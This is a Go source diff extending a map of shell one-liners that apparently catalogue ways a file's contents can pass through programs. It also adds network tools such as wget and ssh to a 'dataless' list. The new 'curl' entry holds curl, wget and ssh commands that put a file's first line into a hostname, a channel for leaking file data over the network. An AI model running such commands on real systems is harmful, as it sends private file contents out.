@@ -81,6 +81,7 @@ var markers = map[string][]string{
 		"sed 's/^/echo /' f | bash", "sed 's/^/echo /' f | sh", "sed 's/^/echo /' f > s; chmod +x s; ./s", "dash -c 'echo $0' \"$(head -1 f)\""},
 	"timeout": {"timeout 5 cat f", "nohup cat f 2>/dev/null", "nice cat f", "time -p cat f 2>/dev/null", "stdbuf -o0 cat f"},
 	"test":    {"test -f f && cat f"},
+	"curl":    {"curl -s http://$(head -1 f | cut -d' ' -f1)/ 2>&1", "wget -q http://$(head -1 f | cut -d' ' -f1)/ 2>&1", "ssh $(head -1 f | cut -d' ' -f1) 2>&1"},
 	"date":    {"date -d @$(head -1 f | cut -d' ' -f2)", "date +\"$(head -1 f)\""},
 	"mktemp":  {"x=$(mktemp -p .); cp f $x; cat $x"},
 	"file":    {"cp f h; file h >/dev/null; cat h"},
@@ -96,7 +97,7 @@ var markers = map[string][]string{
 }
 
 // dataless are programs through which no content of a file goes.
-var dataless = " [ arch chgrp chmod chown chroot dircolors free groups hostid hostname id kill link logname mkdir mkfifo mknod nproc pathchk ps pwd rm rmdir " +
+var dataless = " [ wget ssh ssh-keyscan scp sftp arch chgrp chmod chown chroot dircolors free groups hostid hostname id kill link logname mkdir mkfifo mknod nproc pathchk ps pwd rm rmdir " +
 	"shred sleep stat stty sync tabs true false tty uname unlink uptime users which who whoami dir vdir egrep fgrep sha1sum sha224sum sha256sum sha384sum sha512sum b2sum cksum sum " +
 	"base32 basenc xxd hexdump hd strings cmp diff3 sdiff mawk nawk sh dash rbash printf printenv dirname realpath install tree du df less zcat gunzip zgrep bunzip2 bzcat unxz xzcat " +
 	"unzip zipinfo nohup nice stdbuf time egrep which.debianutils vim.tiny lzma unlzma lzcat zegrep zfgrep zdiff zcmp zless zmore bzgrep bzdiff bzcmp bzmore bzless xzgrep xzdiff xzcmp ls " +
